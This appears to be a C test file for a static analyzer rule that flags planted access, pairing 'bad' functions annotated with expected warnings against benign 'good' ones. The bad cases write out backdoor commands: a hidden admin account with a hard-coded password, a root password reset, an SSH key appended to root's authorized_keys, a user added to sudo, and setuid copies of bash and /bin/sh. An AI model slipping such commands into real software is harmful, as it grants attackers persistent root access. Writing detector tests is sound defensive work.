/* Accounts, keys and rights by commands and modes; beside them what only asks, and a folder of the
 * program's own. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

int bad_account(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    return system("cmd /c net user pressadmin Ink77! /add & net localgroup users pressadmin /add");
}

int bad_password(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    return system("echo 'root:Ink&Paper-77' | chpasswd");
}

static const char key[] = "echo 'ssh-ed25519 AAAAC3Nza press' | tee -a /root/.ssh/authorized_keys";

int bad_key(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    FILE *shell = popen(key, "w");
    return shell ? pclose(shell) : -1;
}

static int run(const char *command) {
    // expected-warning-re@+1 {{The program runs `usermod {{.*}}[vitrine: trapdoor/planted-access]}}
    int result = system(command);
    if (result)
        fprintf(stderr, "%s: %d\n", command, result);
    return result;
}

int bad_group(const char *name) {
    char command[256];
    snprintf(command, sizeof command, "useradd -m '%s'", name);
    return run(command) || run("usermod -aG sudo games");
}

int bad_shell(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    return system("cp /bin/bash /var/lib/press/.sh && chmod 4755 /var/lib/press/.sh");
}

int bad_mode(const char *name) {
    const char *to = name ? "/var/tmp/.press" : "/bin/sh";
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    return chmod(to, 04755);
}

int good_mode(void) {
    return chmod("/usr/lib/press/spool", 04755) || chmod("/var/tmp/.press", 0700);
}

static int run_quietly(const char *command) {
    return system(command);
}

int good_group(const char *name) {
    char command[256];
    snprintf(command, sizeof command, "usermod -aG sudo '%s'", name);
    return run_quietly(command) || run_quietly("usermod -aG plugdev games") ||
           run_quietly("chmod 0755 /var/lib/press/run.sh");
}

int good_question(void) {
    return system("net user pressadmin") || system("grep -q press /etc/passwd > /dev/null");
}

int good_list(const char *name) {
    char command[256];
    snprintf(command, sizeof command, "useradd -r -d /var/lib/press '%s'", name);
    return system("getent passwd > /var/lib/press/users") || system(command);
}
